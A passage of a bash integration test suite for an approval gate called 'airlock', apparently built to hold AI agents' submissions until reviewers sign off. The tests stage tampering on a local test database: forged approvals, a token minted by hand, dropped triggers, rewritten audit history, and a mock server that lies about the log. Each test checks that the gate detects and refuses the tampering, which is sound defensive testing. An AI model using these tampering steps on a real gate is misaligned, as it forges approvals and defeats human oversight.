	sql data/airlock.db "UPDATE audit_leaves SET entry = CAST(replace(CAST(entry AS TEXT), 'action approve', 'action approvE') AS BLOB) WHERE idx = $idx"
	srv_start
	remote_verify "$AUD" 1 "an entry edited" --key keyring.pem
	expect_out_has "FAILED at entry $idx: entry $idx does not hash to the leaf hash the gate stores for it"
	srv_stop 1

	# The same edit with its leaf hash made again: the signed roots find
	# it, and say from where.
	restore_data
	python3 - data/airlock.db "$idx" <<'PY' || fail "cannot edit the copy"
import hashlib, sqlite3, sys
db = sqlite3.connect(sys.argv[1])
e = db.execute("SELECT entry FROM audit_leaves WHERE idx = ?", (int(sys.argv[2]),)).fetchone()[0]
e = bytes(e).replace(b"action approve\n", b"action approvE\n")
db.execute("DROP TRIGGER audit_leaves_no_update")
db.execute("UPDATE audit_leaves SET entry = ?, hash = ? WHERE idx = ?", (e, hashlib.sha256(b"\0" + e).digest(), int(sys.argv[2])))
db.commit()
PY
	srv_start
	remote_verify "$AUD" 1 "an entry and its hash edited" --key keyring.pem
	expect_out_has "differs from checkpoint"
	expect_out_has "DIFFERS from the log"
	grep -q "^FAILED at entry [0-9]*: the root of the first [0-9]* entries differs from checkpoint #[0-9]* (served): an entry from [0-9]* to [0-9]* is not what it signed" "$OUT" ||
		fail "no range named: $(grep FAILED "$OUT")"
	python3 - "$idx" "$OUT" <<'PY' || fail "the range named does not hold entry $idx: $(grep FAILED "$OUT")"
import re, sys
a, b = map(int, re.search(r"an entry from (\d+) to (\d+) is not", open(sys.argv[2]).read()).groups())
assert a <= int(sys.argv[1]) <= b
PY
	srv_stop 1

	# A leaf deleted: the page after it does not hold the index asked for.
	restore_data
	sql data/airlock.db "DELETE FROM audit_leaves WHERE idx = 2"
	srv_start
	remote_verify "$AUD" 1 "a leaf deleted" --page-size 2 --key keyring.pem
	expect_out_has "FAILED at entry 2: entry 2 is missing: asked for it, the gate served entry 3 in its place"
	srv_stop 1

	# The newest entries removed with their nodes and every stored
	# checkpoint: consistent, so only the exported checkpoint finds it.
	restore_data
	sql data/airlock.db "DELETE FROM events WHERE id IN (SELECT event_id FROM audit_leaves WHERE idx >= $((size - 3)))" \
		"DELETE FROM audit_leaves WHERE idx >= $((size - 3))" \
		"DELETE FROM audit_nodes WHERE (idx + 1) << level > $((size - 3))" \
		"DELETE FROM audit_checkpoints" \
		"DELETE FROM principals WHERE NOT EXISTS (SELECT 1 FROM events e WHERE e.action = 'token.create' AND e.detail LIKE 'name=' || principals.name || ' role=%')"
	srv_start
	remote_verify "$AUD" 0 "a consistent truncation, no checkpoint given" --key keyring.pem
	remote_verify "$AUD" 1 "a consistent truncation and the exported checkpoint" --key keyring.pem --checkpoint ck.txt
	expect_out_has "checkpoint ck.txt: $(sed -n 2p ck.txt) entries: BEYOND the log"
	expect_out_has "(truncated?)"
	srv_stop
}

# liar_start MODE: a server on a free port that answers the audit
# endpoints from keys.json, ckpts.json and entries.json (a real gate's
# answers) with the lie MODE told; its URL in $URL, its pid in $LPID.
liar_start() {
	local i
	PORT=$(free_port)
	URL=http://127.0.0.1:$PORT
	python3 - "$PORT" "$1" <<'PY' >liar.log 2>&1 &
import base64, hashlib, json, sys, urllib.parse
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
port, mode = int(sys.argv[1]), sys.argv[2]
keys, ckpts = json.load(open("keys.json")), json.load(open("ckpts.json"))
entries = json.load(open("entries.json"))["entries"]
size, asked = len(entries), []
if mode == "form":    # entry 1 says it is entry 7; its hash agrees
    e = base64.b64decode(entries[1]["entry"]).replace(b"\nindex 1\n", b"\nindex 7\n")
    entries[1] = {"index": 1, "entry": base64.b64encode(e).decode(),
                  "hash": base64.b64encode(hashlib.sha256(b"\0" + e).digest()).decode()}
if mode == "origin":  # keys served under another log's name
    keys["origin"] = "airlock/0000000000000000"
if mode == "nockpt":  # no checkpoint: nothing signed
    ckpts = {"checkpoints": []}
class H(BaseHTTPRequestHandler):
    def log_message(self, *a):
        pass
    def send(self, body, ctype="application/json"):
        self.send_response(200)
        self.send_header("Content-Type", ctype)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    def do_GET(self):
        u = urllib.parse.urlparse(self.path)
        q = dict(urllib.parse.parse_qsl(u.query))
        if u.path == "/v1/audit/keys":
            return self.send(json.dumps(keys).encode())
        if u.path == "/v1/audit/checkpoints":
            return self.send(json.dumps(ckpts).encode())
        f, n = int(q.get("from", 0)), int(q.get("limit", 1000))
        asked.append(f)
        page, sz = entries[f:f + n], size
        if mode == "shrink" and len(asked) > 1:
            sz = size - 1
        if mode == "shift" and f > 0:
            page = entries[f + 1:f + 1 + n]
        if mode == "notjson" and f > 0:
            return self.send(b"<html>not JSON</html>", "text/html")
        if mode == "b64" and f > 0:
            page = [dict(page[0], entry="not base64!")] + page[1:]
        self.send(json.dumps({"size": sz, "from": f, "entries": page}).encode())
ThreadingHTTPServer(("127.0.0.1", port), H).serve_forever()
PY
	LPID=$!
	for i in $(seq 1 100); do
		curl -s --max-time 2 -o /dev/null "$URL/v1/audit/keys" && return 0
		sleep 0.05
	done
	fail "the lying server did not start: $(cat liar.log)"
}

liar_stop() {
	kill "$LPID" 2>/dev/null
	wait "$LPID" 2>/dev/null
	LPID=
}

# A server that lies about the log is caught, whatever it lies about: a
# page of other indexes than asked for, a log that shrinks between pages,
# an entry not of its place (its hash agreeing), keys of another log, a
# reply that is not JSON, an entry that is not base64, no checkpoint at
# all. The answers are a real gate's, replayed with one lie each
# (unchanged: it verifies).
t_audit_verify_refuses_a_lying_server() {
	local AUD m
	srv_start
	mk_token auditor aud-1
	AUD=$TOK
	reviewers 3
	RC=0
	"$BIN" audit checkpoint --make --data "$PWD/data" -o ck.txt 2>"$ERR" || RC=$?
	expect_rc 0 "audit checkpoint --make"
	curl -sf -H "Authorization: Bearer $AUD" "$URL/v1/audit/keys" >keys.json &&
		curl -sf -H "Authorization: Bearer $AUD" "$URL/v1/audit/checkpoints" >ckpts.json &&
		curl -sf -H "Authorization: Bearer $AUD" "$URL/v1/audit/entries?limit=10000" >entries.json ||
		fail "cannot read the gate's audit answers"
	"$BIN" key show --all --data "$PWD/data" >keyring.pem 2>/dev/null || fail "key show --all"
	srv_stop
	for m in none:0:verified shift:1:"FAILED at entry 2: entry 2 is missing: asked for it, the gate served entry 3" \
		shrink:1:"the log shrank from" \
		form:1:"FAILED at entry 1: entry 1 is not a well-formed version 1 entry of its place: line 2: it says index 7" \
		origin:2:"the verifier key is of the log" notjson:2:"HTTP 200 without a JSON object" \
		b64:2:"entry 2 is not base64"; do
		liar_start "${m%%:*}"
		remote_verify "$AUD" "$(echo "$m" | cut -d: -f2)" "a server that lies: ${m%%:*}" \
			--page-size 2 --key keyring.pem --checkpoint ck.txt
		grep -qF -- "${m#*:*:}" "$OUT" "$ERR" || fail "lie ${m%%:*}: no '${m#*:*:}': $(cat "$OUT" "$ERR")"
		liar_stop
	done
	liar_start nockpt
	remote_verify "$AUD" 1 "a server that serves no checkpoint" --key keyring.pem
	expect_out_has "FAILED: no checkpoint verifies: nothing the gate served is signed"
	remote_verify "$AUD" 0 "no checkpoint served, one exported" --key keyring.pem --checkpoint ck.txt
	liar_stop
}

# The signer trusts the log, not the tables: a critical submission set to
# approved by hand, or given a forged approval row and event, is refused
# at release with an integrity alarm, and no attestation is made; one
# approval of two (the log's count) is refused too.
t_release_trusts_the_log() {
	local AG CI S S2 n
	srv_start
	mk_token agent agent-1 alice
	AG=$TOK
	mk_token ci ci-1
	CI=$TOK
	reviewers 2
	pat_file secret.env
	held "$AG" secret.env name=secret.env
	S=$SID
	approve_as "${REV[1]}" "$S"
	standing "$S" held 1 2
	sql data/airlock.db "UPDATE submissions SET state = 'approved' WHERE id = $S"
	as "$CI" release "$S" -o att.json
	expect_rc 1 "release of a submission approved by hand"
	expect_err_has "the audit log proves 1 of the 2 approvals the policy needs"
	[ ! -s att.json ] || fail "an attestation was written"
	expect_eq "$(sql1 data/airlock.db "SELECT count(*) FROM releases")" 0 "releases"
	expect_eq "$(sql1 data/airlock.db "SELECT count(*) FROM events WHERE action = 'integrity.mismatch' AND submission_id = $S AND detail LIKE 'where=log %'")" 1 \
		"integrity alarms of the log"
	api GET /metrics "$ADMIN"
	grep -q 'airlock_integrity_alarms_total{where="log"} 1' "$OUT" ||
		fail "no log alarm in /metrics: $(grep integrity "$OUT")"

	# A forged second approval: a row and an event, written behind the
	# gate's back (no leaf: the forger cannot extend the signed log).
	n=$(sql1 data/airlock.db "SELECT id FROM principals WHERE name = 'rev-2'")
	sql data/airlock.db "INSERT INTO approvals (submission_id, reviewer, at, comment, sha256, ruleset_digest, scan_id) SELECT submission_id, $n, at + 1, 'ok', sha256, ruleset_digest, scan_id FROM approvals WHERE submission_id = $S" \
		"INSERT INTO events (at, actor, action, submission_id, detail) SELECT at + 1, $n, 'approve', submission_id, 'sha256=' || sha256 || ' ruleset=' || ruleset_digest || ' scan=' || scan_id || ' person=rev-2' FROM approvals WHERE submission_id = $S AND reviewer <> $n"
	as "$CI" release "$S" -o att.json
	expect_rc 1 "release with a forged approval"
	expect_err_has "the audit log proves 1 of the 2 approvals"
	expect_eq "$(sql1 data/airlock.db "SELECT count(*) FROM releases")" 0 "releases after the forgery"

	# The real second approval is what lets it out (another submission:
	# this one's tables are forged for good).
	pat_file s2.env
	printf '# two\n' >>s2.env
	held "$AG" s2.env name=s2.env
	S2=$SID
	approve_as "${REV[1]}" "$S2"
	approve_as "${REV[2]}" "$S2"
	as "$CI" release "$S2" -o att2.json
	expect_rc 0 "release with two approvals in the log"
	python3 -c 'import base64, json; e = json.load(open("att2.json")); p = json.loads(base64.b64decode(e["payload"]))["predicate"]; assert sorted(a["person"] for a in p["approvals"]) == ["rev-1", "rev-2"], p; assert p["audit_log"]["size"] > 0, p' ||
		fail "the statement does not name the log's approvals and checkpoint"

	# A token minted behind the gate's back (a principals row, no
	# token.create in the log) for rev-2's person: its approval makes the
	# tables say approved, and the log does not count it.
	local minted
	minted=alk_$(python3 -c 'print("M" * 44)')
	sql data/airlock.db "INSERT INTO principals (name, role, token_hash, created_at, person_id) SELECT 'rev-2-minted', 'reviewer', '$(printf '%s' "$minted" | sha256sum | cut -c1-64)', 1, person_id FROM principals WHERE name = 'rev-2'"
	pat_file s3.env
	printf '# three\n' >>s3.env
	held "$AG" s3.env name=s3.env
	approve_as "${REV[1]}" "$SID"
	approve_as "$minted" "$SID"
	standing "$SID" approved 2 2
	as "$CI" release "$SID" -o att3.json
	expect_rc 1 "release approved with a minted token"
	expect_err_has "the audit log proves 1 of the 2 approvals"
	srv_stop 1

	# History rewritten while the gate is down, the tree rebuilt as the
	# migration would, the old signed checkpoints put back: the gate
	# will not sign the rewritten tree, and releases nothing on it.
	python3 - data/airlock.db <<'PY' || fail "cannot rewrite the copy"
import sqlite3, sys
db = sqlite3.connect(sys.argv[1])
keep = db.execute("SELECT size, root, key_id, at, reason, note FROM audit_checkpoints").fetchall()
open("ckpts.txt", "w").write(repr(keep))
for (n,) in db.execute("SELECT name FROM sqlite_master WHERE type = 'trigger' AND name LIKE '%no_%'").fetchall():
    db.execute("DROP TRIGGER " + n)
db.execute("UPDATE events SET detail = 'rewritten' WHERE id = (SELECT min(id) FROM events WHERE action = 'view')")
db.execute("DELETE FROM views WHERE id = (SELECT min(id) FROM views)")  # consistently
db.execute("DELETE FROM events WHERE action = 'audit.begin'")
for t in ("audit_leaves", "audit_nodes", "audit_checkpoints"):
    db.execute("DROP TABLE " + t)
db.execute("PRAGMA user_version = 5")
db.commit()
PY
	"$BIN" audit log --data "$PWD/data" >/dev/null 2>&1 || fail "the migration of the rewritten copy"
	python3 - data/airlock.db <<'PY' || fail "cannot put the checkpoints back"
import ast, sqlite3, sys
db = sqlite3.connect(sys.argv[1])
db.executemany("INSERT INTO audit_checkpoints (size, root, key_id, at, reason, note) VALUES (?, ?, ?, ?, ?, ?)",
               ast.literal_eval(open("ckpts.txt").read()))
db.commit()
PY
	srv_start
	pat_file s4.env
	printf '# four\n' >>s4.env
	held "$AG" s4.env name=s4.env
	approve_as "${REV[1]}" "$SID"
	approve_as "${REV[2]}" "$SID"
	as "$CI" release "$SID" -o att4.json
	expect_rc 1 "release on a rewritten history"
	expect_err_has "the audit log cannot be signed"
	expect_err_has "rewritten"
	grep -q "audit checkpoint.*rewritten" serve.log || fail "the gate did not say it refused to sign: $(tail -n 5 serve.log)"
	srv_stop 1
	grep -q "DIFFERS from the log" audit.out || fail "audit verify does not find the rewrite: $(cat audit.out)"
}

# ---- the signing key outside the data directory (issue 14) -------------------------

# check_config_refused WHAT PATTERN [ENV...]: serve --check-config exits 1 and
# says PATTERN.
check_config_refused() {
	local what=$1 pat=$2
	shift 2
	RC=0
	env "$@" "$BIN" serve --data "$PWD/data" --check-config >"$OUT" 2>"$ERR" || RC=$?
	expect_rc 1 "serve --check-config: $what"
	expect_err_has "$pat"
}

t_signing_key_outside_the_data_directory() {
	local AG CI key=$PWD/secret/signing.key old
	mkdir -m 700 secret
	"$BIN" init --data "$PWD/data" --signing-key secret/signing.key >admin.tok 2>init.err ||
		fail "airlock init --signing-key: $(cat init.err)"
	ADMIN=$(cat admin.tok)
	grep -q "made a new signing key $key (outside the data directory" init.err ||
		fail "init does not say where the key is: $(cat init.err)"
	[ "$(stat -c %a "$key")" = 600 ] || fail "the key's mode: $(stat -c %a "$key")"
	[ -e data/keys/signing.key ] && fail "init wrote a private key into the data directory"
	grep -rlq 'PRIVATE KEY' data && fail "a private key in the data directory: $(grep -rl 'PRIVATE KEY' data)"
	# The key is found by the option or the variable, or not at all.
	check_config_refused "no key given" "holds only its public half"
	srv_start --signing-key "$key"
	mk_token agent agent-1 alice
	AG=$TOK
	mk_token ci ci-1
	CI=$TOK
	reviewers 1
	printf 'x = 1\n' >x.py
	held "$AG" x.py name=x.py
	approve_as "${REV[1]}" "$SID"
	as "$CI" release "$SID" -o att.json
	expect_rc 0 "a release signed with the key outside"
	verify_rc 0 "the release, with the data directory's public key" \
		--key data/keys/signing.pub att.json x.py
	srv_stop # its checkpoints verify with the keyring
	# A copy of the data directory cannot sign.
	cp -a data copy
	RC=0
	"$BIN" key rotate --data "$PWD/copy" >"$OUT" 2>"$ERR" || RC=$?
	[ "$RC" != 0 ] || fail "a copy of the data directory made a new key with the old one"
	expect_err_has "holds only its public half"
	RC=0
	"$BIN" serve --data "$PWD/copy" --check-config >"$OUT" 2>"$ERR" || RC=$?
	expect_rc 1 "serve --check-config on a copy of the data directory"
	expect_err_has "holds only its public half"
	# Refused: a key others may read, a copy of it inside the data
	# directory, a key that is not the data directory's.
	chmod 640 "$key"
	check_config_refused "a key of mode 0640" "may be read or written by others (mode 0640)" \
		AIRLOCK_SIGNING_KEY="$key"
	chmod 600 "$key"
	cp -p "$key" data/keys/signing.key
	check_config_refused "a key inside as well" "is a signing key inside the data directory" \
		AIRLOCK_SIGNING_KEY="$key"
	rm data/keys/signing.key
	mkdir -m 700 other
	"$BIN" init --data "$PWD/other" >/dev/null 2>&1 || fail "init of another data directory"
	check_config_refused "another gate's key" "not the data directory's current key" \
		AIRLOCK_SIGNING_KEY="$PWD/other/keys/signing.key"
	# Rotation replaces the key where it is kept; the gate signs with the
	# new one, and the data directory still holds no private key.
	old=$(sha256sum <"$key")
	AIRLOCK_SIGNING_KEY=$key "$BIN" key rotate --data "$PWD/data" >/dev/null 2>"$ERR" ||
		fail "key rotate with the key outside: $(cat "$ERR")"
	[ "$(sha256sum <"$key")" != "$old" ] || fail "the rotation did not replace the key outside"
	[ "$(stat -c %a "$key")" = 600 ] || fail "the rotated key's mode: $(stat -c %a "$key")"
	grep -rlq 'PRIVATE KEY' data && fail "a private key in the data directory after the rotation"
	AIRLOCK_SIGNING_KEY=$key srv_start
	printf 'y = 2\n' >y.py
	held "$AG" y.py name=y.py
	approve_as "${REV[1]}" "$SID"
	as "$CI" release "$SID" -o att2.json
	expect_rc 0 "a release after the rotation"
	verify_rc 0 "the second release, with the new public key" \
		--key data/keys/signing.pub att2.json y.py
	# Each start is on the record, with the rules, the policy and the key
	# it ran with.
	expect_eq "$(sql1 data/airlock.db "SELECT group_concat(substr(detail, instr(detail, ' key=') + 5), ',') FROM (SELECT detail FROM events WHERE action = 'serve.start' AND actor IS NULL ORDER BY id)")" \
		"$("$BIN" key list --data "$PWD/data" | awk 'NR > 1 {print $1}' | paste -sd,)" \
		"the keys of the two starts"
	sql1 data/airlock.db "SELECT detail FROM events WHERE action = 'serve.start' ORDER BY id DESC LIMIT 1" |
		grep -qE '^pid=[0-9]+ rules=sha256:[0-9a-f]{64} nrules=[0-9]+ policy=default key=[0-9a-f]{64}$' ||
		fail "serve.start: $(sql1 data/airlock.db "SELECT detail FROM events WHERE action = 'serve.start' ORDER BY id DESC LIMIT 1")"
	srv_stop
}

# A token's expiry extended in the principals table by hand: the gate
# takes the row's word, but the log says when the token expired, so the
# acts after it are named and verify finds the row.
t_audit_token_expiry_extended_by_hand() {
	local AG id
	srv_start
	mk_token agent agent-1 alice 1s
	AG=$TOK
	id=$(sql1 data/airlock.db "SELECT id FROM principals WHERE name = 'agent-1'")
	sql1 data/airlock.db "SELECT detail FROM events WHERE action = 'token.create' AND detail LIKE 'name=agent-1 %'" |
		grep -qE ' expires=[1-9][0-9]*$' || fail "token.create does not say when the token expires"
	srv_stop
	sql data/airlock.db "UPDATE principals SET expires_at = expires_at + 86400000 WHERE name = 'agent-1'"
	srv_start
	sleep 1.2
	printf 'late = 1\n' >late.py
	submit "$AG" late.py name=late.py
	RC=0
	"$BIN" audit query after-revocation --data "$PWD/data" >"$OUT" 2>"$ERR" || RC=$?
	expect_rc 1 "audit query after-revocation with an act after the logged expiry"
	expect_out_has "after its expiry"
	expect_out_has " submit "
	srv_stop 1
	grep -q "token $id (a principals row) has no token.create event saying its name, role, token hash and expiry" audit.out ||
		fail "audit verify does not name the edited token: $(cat audit.out)"
}

# A writer of the live database between two checkpoints, consistent in
# every table (an event, its leaf, the tree's nodes: bench/audit_bench.py
# writes them as the gate does): audit verify cannot tell, but the gate
# remembers what it wrote, and signs nothing over an entry it did not
# write. A key rotation, which another process writes beside the gate, is
# signed as usual.
t_audit_live_writer_between_checkpoints() {
	local AG CI
	srv_start
	mk_token agent agent-1 alice
	AG=$TOK
	mk_token ci ci-1
	CI=$TOK
	reviewers 1
	printf 'k = 1\n' >k.py
	held "$AG" k.py name=k.py
	"$BIN" key rotate --data "$PWD/data" >/dev/null 2>"$ERR" || fail "key rotate beside the gate: $(cat "$ERR")"
	approve_as "${REV[1]}" "$SID"
	as "$CI" release "$SID" -o k.att.json
	expect_rc 0 "a release after a key rotation beside the gate"
	printf 'w = 1\n' >w.py
	held "$AG" w.py name=w.py
	python3 - data/airlock.db "$ROOT/bench" <<'PY' || fail "cannot write behind the gate's back"
import sqlite3, sys
sys.path.insert(0, sys.argv[2])
import audit_bench
db = sqlite3.connect(sys.argv[1], timeout=30)
size = db.execute("SELECT count(*) FROM audit_leaves").fetchone()[0]
audit_bench.grow(db, size + 1)
PY
	approve_as "${REV[1]}" "$SID"
	as "$CI" release "$SID" -o w.att.json
	expect_rc 1 "a release over an entry written behind the gate's back"
	expect_err_has "the audit log cannot be signed"
	[ ! -e w.att.json ] || fail "an attestation was written"
	grep -q "(note) was not written by the gate" serve.log ||
		fail "the gate does not say which entry it did not write: $(tail -n 5 serve.log)"
	# Consistent in every table: only the gate's memory found it.
	srv_stop 0
}

# Four releases of one submission at once (CI retrying): one release, one
# attestation, every answer that attestation, and no integrity alarm (each
# used to find the other's release in the log).
t_concurrent_releases_are_one() {
	local AG CI i pids
	srv_start
	mk_token agent agent-1 alice
	AG=$TOK
	mk_token ci ci-1
	CI=$TOK
	reviewers 1
	for round in 1 2 3; do
		printf 'r = %s\n' "$round" >r$round.py
		held "$AG" r$round.py name=r$round.py
		approve_as "${REV[1]}" "$SID"
		pids=()
		for i in 1 2 3 4; do
			curl -sS --max-time 30 -o "rel$round.$i" -w '%{http_code}' -X POST \
				-H "Authorization: Bearer $CI" --data-binary '' \
				"$URL/v1/submissions/$SID/release" >"code$round.$i" 2>/dev/null &
			pids+=($!)
		done
		wait "${pids[@]}" # (not the gate: it runs in the background too)
		for i in 1 2 3 4; do
			expect_eq "$(cat "code$round.$i")" 200 "release $i of round $round"
			cmp -s "rel$round.1" "rel$round.$i" || fail "round $round: release $i answered another attestation"
		done
		expect_eq "$(sql1 data/airlock.db "SELECT count(*) FROM releases WHERE submission_id = $SID")" 1 "release rows"
		expect_eq "$(sql1 data/airlock.db "SELECT count(*) FROM events WHERE submission_id = $SID AND action = 'release'")" 1 "release events"
	done
	grep -q 'integrity alarm' serve.log && fail "an integrity alarm: $(grep 'integrity alarm' serve.log | head -n 1)"
	srv_stop
}


# ---- who is signed in (issue 15) --------------------------------------------------

# GET /v1/provenance (docs/api.md): the chain of a released submission
# by id, by sha256 and by path, the very document `airlock provenance
# --json` prints (one function makes both); bounded (the newest 10
# submissions, the first 1000 entries of a timeline, the rest counted and
# said); precise 400s, 404 when nothing matches; auditors and admins only,
# never on the intake socket; an entry edited while the gate was stopped
# is named, in a 200 whose log does not verify.
t_provenance_over_the_api() {
	local AG CI AUD S T sha i q idx
	srv_start
	mk_token auditor aud-1
	AUD=$TOK
	mk_token agent agent-1 alice
	AG=$TOK
	mk_token ci ci-1
	CI=$TOK
	reviewers 1
	printf 'x = 1\n' >x.py
	held "$AG" x.py name=x.py
	S=$SID
	sha=$SHA
	approve_as "${REV[1]}" "$S"
	as "$CI" release "$S" -o att.json
	expect_rc 0 "airlock release"
	mkdir pulled
	as "$CI" pull "$S" -o pulled/x.py
	expect_rc 0 "airlock pull"
	# The same file inside an archive: the path x.py names it too.
	mkdir t && cp x.py t/ && tar -C t -cf a.tar x.py
	held "$AG" a.tar name=a.tar
	T=$SID

	api GET "/v1/provenance?id=$S" "$AUD"
	expect_code 200 "provenance by id"
	cp "$OUT" prov-id.json
	python3 - prov-id.json "$S" "$sha" "$(sha256sum att.json | cut -c1-64)" <<'PY' || fail "provenance by id: $(head -c 800 prov-id.json)"
import json, sys
d = json.load(open(sys.argv[1]))
assert d["query"] == {"id": int(sys.argv[2])} and d["matched"] == 1 and "truncated" not in d, d
s, = d["submissions"]
assert s["id"] == int(sys.argv[2]) and s["state"] == "released" and s["verdict"] == "clean", s
assert s["witnessed"]["sha256"] == sys.argv[3] and s["witnessed"]["submitter"] == "agent-1", s
assert s["witnessed"]["launched_for"] == "alice" and s["asserted"]["name"] == "x.py", s
acts = [e["action"] for e in s["timeline"]]
for a in ("submit", "scan.start", "scan.finish", "view", "approve", "approved", "release", "pull"):
    assert a in acts, (a, acts)
assert acts.index("approve") < acts.index("release") < acts.index("pull"), acts
rel = [e for e in s["timeline"] if e["action"] == "release"][0]
assert rel["actor"] == "ci-1" and "attestation_sha256=" + sys.argv[4] in rel["detail"], rel
assert all(e["proof"] in ("proved", "after the checkpoint") for e in s["timeline"]), s["timeline"]
assert rel["proof"] == "proved", rel  # the release's own checkpoint covers it
assert s["log"]["verified"] is True and s["log"]["size"] >= 1 and len(s["log"]["key_id"]) == 64, s["log"]
assert "timeline_not_shown" not in s, s
PY
	# One function makes both: the CLI's document is the API's.
	RC=0
	"$BIN" provenance "$S" --data "$PWD/data" --json >cli.json 2>"$ERR" || RC=$?
	expect_rc 0 "airlock provenance ID --json"
	python3 -c 'import json, sys; a, b = (json.load(open(f)) for f in sys.argv[1:]); assert a == b, (a, b)' \
		prov-id.json cli.json || fail "the API's provenance is not the CLI's"
	api GET "/v1/provenance?sha256=$sha" "$ADMIN"
	expect_code 200 "provenance by sha256 (admin)"
	expect_all 'd["query"]' "{'sha256': '$sha'}" '[s["id"] for s in d["submissions"]]' "[$S]" \
		'd["submissions"][0]["timeline"] == json.load(open("prov-id.json"))["submissions"][0]["timeline"]' True
	api GET "/v1/provenance?path=x.py" "$AUD"
	expect_code 200 "provenance by path"
	expect_all 'd["matched"]' 2 '[s["id"] for s in d["submissions"]]' "[$S, $T]" \
		'd["submissions"][1]["asserted"]["name"]' a.tar
	api GET "/v1/provenance?path=a.tar%21%2Fx.py" "$AUD"
	expect_code 200 "provenance by an item's whole path"
	expect_all '[s["id"] for s in d["submissions"]]' "[$T]"
	api GET "/v1/provenance?path=.py" "$AUD"
	expect_code 404 "a path's tail that is not a member's path"
	expect_all 'd["error"]' "no submission is named so or has an item at that path"

	# Bad queries: 400, saying what is wrong; nothing matched: 404.
	for q in "|give one of sha256, id and path" \
		"id=$S&path=x.py|sha256, id and path are exclusive: give one" \
		"sha256=${sha:0:63}|sha256 is 64 lowercase hex digits, not 63 characters" \
		"sha256=${sha}0|sha256 is 64 lowercase hex digits, not 65 characters" \
		"sha256=$(printf '%s' "$sha" | tr a-f A-F)|sha256 is 64 lowercase hex digits: character" \
		"sha256=g${sha:1}|sha256 is 64 lowercase hex digits: character 1 is not one" \
		"id=0|id is a submission id: a decimal from 1" "id=-1|id is a submission id" \
		"id=0$S|id is a submission id" "id=1x|id is a submission id" \
		"id=1234567890123456789|id is a submission id" \
		"path=|path has no value" "id=|id has no value" "path|path has no value" \
		"path=a%ffb|path is not UTF-8 text (byte 2 of 3 is not valid)" \
		"path=%c0%af|path is not UTF-8 text (byte 1 of 2 is not valid)" \
		"path=$(head -c 4097 /dev/zero | tr '\0' a)|path is at most 4096 bytes, not 4097" \
		"id=$S&id=$S|id is given twice" \
		"name=x.py|unknown query argument (this endpoint takes sha256, id and path)"; do
		api GET "/v1/provenance?${q%%|*}" "$AUD"
		expect_code 400 "GET /v1/provenance?${q%%|*}"
		expect_error_json
		grep -qF -- "${q#*|}" "$OUT" || fail "GET /v1/provenance?${q%%|*}: $(cat "$OUT")"
	done
	api GET "/v1/provenance?sha256=$(printf '%064d' 7)" "$AUD"
	expect_code 404 "provenance of bytes never submitted"
	expect_all 'd["error"]' "no submission of the artifact $(printf '%064d' 7)"
	api GET "/v1/provenance?id=999" "$AUD"
	expect_code 404 "provenance of an unknown id"
	expect_all 'd["error"]' "no submission 999"
	api GET "/v1/provenance?path=nothing.py" "$AUD"
	expect_code 404 "provenance of a path nothing has"

	# Auditors and admins only; not on the intake socket.
	for t in "$AG" "${REV[1]}" "$CI"; do
		api GET "/v1/provenance?id=$S" "$t"
		expect_code 403 "provenance as a role that may not"
		expect_all 'd["error"]' "this token's role may not do that"
	done
	api GET "/v1/provenance?id=$S" ""
	expect_code 401 "provenance without a token"
	CODE=$(curl -sS --max-time 30 -o "$OUT" -w '%{http_code}' -H "Authorization: Bearer $AG" \
		--unix-socket "$PWD/data/intake.sock" "http://localhost/v1/provenance?id=$S" 2>"$ERR") || true
	expect_code 404 "provenance on the intake socket"
	expect_all 'd["error"]' "no such endpoint"

	# Bounded: 12 submissions of the same bytes; the newest 10 shown, the
	# others counted and named, newest first.
	for i in $(seq 1 11); do
		submit "$AG" x.py name=x.py
	done
	api GET "/v1/provenance?sha256=$sha" "$AUD"
	expect_code 200 "provenance of 12 submissions"
	expect_all 'd["matched"]' 12 'd["truncated"]' True 'len(d["submissions"])' 10 \
		'[s["id"] for s in d["submissions"]] == sorted(s["id"] for s in d["submissions"])' True \
		'd["submissions"][-1]["id"]' "$SID" \
		'd["not_shown"] == sorted(d["not_shown"], reverse=True) and len(d["not_shown"]) == 2' True \
		"$S in d[\"not_shown\"] and $S not in [s[\"id\"] for s in d[\"submissions\"]]" True
	# A timeline longer than 1000 entries: the first 1000, the rest counted.
	for i in $(seq 1 1000); do
		printf 'url = "%s/v1/submissions/%s/content"\noutput = /dev/null\n' "$URL" "$T"
	done >views.cfg
	curl -sS -K views.cfg -H "Authorization: Bearer ${REV[1]}" 2>"$ERR" || fail "1000 views: $(cat "$ERR")"
	i=$(sql1 data/airlock.db "SELECT count(*) FROM audit_leaves WHERE instr(entry, CAST(char(10) || 'submission $T' || char(10) AS BLOB)) > 0")
	[ "$i" -gt 1000 ] || fail "submission $T has $i entries, not more than 1000"
	api GET "/v1/provenance?id=$T" "$AUD"
	expect_code 200 "provenance of a long timeline"
	expect_all 'len(d["submissions"][0]["timeline"])' 1000 'd["submissions"][0]["timeline_not_shown"]' "$((i - 1000))" \
		'd["submissions"][0]["timeline"][0]["action"]' submit
	RC=0
	"$BIN" provenance "$T" --data "$PWD/data" --json >cli.json 2>"$ERR" || RC=$?
	expect_rc 0 "airlock provenance of the long timeline"
	expect_eq "$(python3 -c 'import json, sys; print(len(json.load(open(sys.argv[1]))["submissions"][0]["timeline"]))' cli.json)" "$i" \
		"the CLI's timeline (not bounded)"

	# An entry edited behind the stopped gate's back: a 200 that names it.
	srv_stop
	idx=$(sql1 data/airlock.db "SELECT l.idx FROM audit_leaves l JOIN events e ON e.id = l.event_id WHERE e.action = 'approve'")
	sql data/airlock.db "UPDATE audit_leaves SET entry = CAST(replace(CAST(entry AS TEXT), 'action approve', 'action approvE') AS BLOB) WHERE idx = $idx"
	srv_start
	api GET "/v1/provenance?id=$S" "$AUD"
	expect_code 200 "provenance with an edited entry"
	expect_all 'd["submissions"][0]["log"]["verified"]' False \
		'd["submissions"][0]["log"]["failures"]["first"]' "$idx" \
		"[e[\"proof\"] for e in d[\"submissions\"][0][\"timeline\"] if e[\"index\"] == $idx]" "['DOES NOT VERIFY']" \
		"[e[\"action\"] for e in d[\"submissions\"][0][\"timeline\"] if e[\"index\"] == $idx]" "['approvE']"
	srv_stop 1
}

# GET /v1/whoami tells each caller its own token: name, role, the person it
# belongs to (an agent's: the person it was launched for; a token named
# apart from its person: that person, not the name), and when it expires.
# An agent may ask on the intake socket too. Asking writes nothing: the
# events are as many after every role asked as before. No token and a
# revoked one are 401 like everywhere (that refusal is an event).
t_whoami_each_role() {
